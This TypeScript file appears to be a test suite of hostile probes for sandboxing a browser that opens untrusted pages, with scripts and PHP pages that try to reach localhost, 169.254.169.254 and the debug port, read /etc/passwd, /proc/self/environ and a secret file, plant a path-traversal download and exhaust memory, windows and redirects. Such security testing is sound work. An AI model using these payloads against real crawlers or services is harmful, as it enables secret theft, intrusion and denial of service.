import type { Baits } from './baits.ts'
import { type Probe, project, script } from './probe.ts'

/** Probes of the browser by the pages that it opens. */
export function probesOfBrowser({ port, address, folder: bait, secret }: Baits): Probe[] {
  const short = { look: 8 }
  return [
    script(
      'record: the reader’s own functions',
      `Array.prototype.map = Array.prototype.filter = () => ['http://localhost/ESCAPED']; JSON.stringify = () => '{"title":"ESCAPED"}'; Object.defineProperty(document, 'body', { get() { won('body'); document.title = 'nothing' } }); String.prototype.slice = () => 'ESCAPED'; Document.prototype.querySelectorAll = () => { throw 1 };`,
    ),
    script(
      'browser: network',
      `for (const to of ['http://127.0.0.1:${port}/', 'http://${address}:${port}/', 'http://[::1]:${port}/', 'http://x.localhost:${port}/', 'http://localhost:${port}/', 'http://169.254.169.254/', 'https://1.1.1.1/', 'http://127.0.0.1:9222/json']) { fetch(to).then((a) => a.text()).then((t) => won(to + t)).catch(() => {}); new Image().src = to; const s = document.createElement('script'); s.src = to; document.head.append(s) }
  try { new WebSocket('ws://127.0.0.1:${port}/').onopen = () => won('socket') } catch {} try { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }, { urls: 'turn:${address}:${port}', username: 'a', credential: 'b' }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)) } catch {} navigator.sendBeacon('http://${address}:${port}/', 'x')`,
    ),
    script(
      'browser: files of its machine',
      `for (const to of ['file://${secret}', 'file:///etc/passwd', 'file:///proc/self/environ', 'view-source:file:///etc/passwd', 'chrome://version', 'file:///stand-ins/']) { const f = document.createElement('iframe'); f.src = to; f.onload = () => { try { if (f.contentDocument.body.innerText) won(to + f.contentDocument.body.innerText) } catch {} }; document.body.append(f); fetch(to).then((a) => a.text()).then((t) => won(to + t)).catch(() => {}); const a = document.createElement('a'); a.href = to; document.body.append(a); a.click() }`,
    ),
    script('browser: goes elsewhere', `setTimeout(() => { location = 'http://127.0.0.1:${port}/' }, 50)`),
    script(
      'browser: windows and dialogs without end',
      `addEventListener('beforeunload', (e) => { e.preventDefault(); return 'stay' }); for (let i = 0; i < 500; i++) open('/?' + i); while (true) alert('again'); `,
      short,
    ),
    script(
      'browser: a script without end',
      'while (true) { history.pushState(0, 0, "?" + Math.random()) }',
      short,
    ),
    script(
      'browser: memory',
      'const a = []; while (true) a.push(new Uint8Array(1e7).fill(1), document.body.appendChild(document.createElement("canvas")))',
      short,
    ),
    project(
      'browser: a page of a gigabyte',
      {
        'index.php': `<?php ini_set('max_execution_time', 0); echo '<title>nothing</title>'; for ($i = 0; $i < 1000; $i++) { echo str_repeat('<p>x', 250_000); flush(); }`,
      },
      short,
    ),
    script(
      'browser: a huge picture',
      `for (let i = 0; i < 4; i++) { const c = document.createElement('canvas'); c.width = c.height = 16000; c.getContext('2d').fillRect(0, 0, 16000, 16000); document.body.append(c) } document.body.style.cssText = 'width:90000px;height:900000px;background:red'; const n = document.createElement('img'); n.src = 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" width="1000000" height="1000000"/>'; document.body.append(n)`,
      short,
    ),
    project(
      'browser: downloads',
      {
        'index.php': `<?php if (isset($_GET['get'])) { header('Content-Disposition: attachment; filename="../../../..${bait}/taken"'); header('Content-Type: application/x-sh'); for ($i = 0; $i < 400; $i++) echo str_repeat('x', 1 << 20); exit; } echo '<title>nothing</title>tried<a id=a href="?get=1" download="/out/taken">x</a><script>for (let i = 0; i < 20; i++) a.click()</script><iframe src="?get=2"></iframe>';`,
      },
      short,
    ),
    project(
      'browser: redirects without end',
      {
        'index.php': `<?php header('Location: /index.php?' . rand()); echo '<title>nothing</title>';`,
        'b.php': '<?php echo "<meta http-equiv=refresh content=0>";',
      },
      short,
    ),
    project(
      'browser: links without end',
      {
        'index.php': `<?php echo '<title>nothing</title>'; for ($i = 0; $i < 20000; $i++) echo "<a href='/p$i.php/'>x</a> <a href='/index.php/", rand(), "'>y</a>";`,
      },
      short,
    ),

    // Our own.
    project('browser: a header of megabytes, and one that never ends', {
      'index.php': `<?php echo '<title>nothing</title><a href=long.php>a</a> <a href=slow.php>b</a>';`,
      'long.php': `<?php for ($i = 0; $i < 200; $i++) header("X-$i: " . str_repeat('x', 60_000)); echo 'x';`,
      'slow.php': `<?php for ($i = 0; $i < 3000; $i++) { header("Set-Cookie: c$i=" . str_repeat('x', 3000), false); } echo 'x';`,
    }),
    project('browser: a worker that stays and answers for other pages', {
      'index.html': `<title>nothing</title><a href=b.html>b</a><script>navigator.serviceWorker?.register('/worker.js').then(() => fetch('http://127.0.0.1:${port}/'))</script>`,
      'b.html': '<title>nothing</title>b',
      'worker.js': `onfetch = (e) => e.respondWith(fetch('http://127.0.0.1:${port}/').catch(() => fetch('http://${address}:${port}/')).then((a) => a.text()).then((t) => new Response('<title>ESCAPED ' + t + '</title>')).catch(() => fetch(e.request)))`,
    }),
    project('browser: redirects to files and other servers', {
      'index.php': `<?php echo '<title>nothing</title><a href=a.php>a</a> <a href=b.php>b</a> <a href=c.php>c</a><iframe src=a.php></iframe><iframe src=b.php></iframe>';`,
      'a.php': `<?php header('Location: file://${secret}');`,
      'b.php': `<?php header('Location: http://127.0.0.1:${port}/');`,
      'c.php': `<?php header('Location: http://${address}:${port}/');`,
    }),
  ]
}
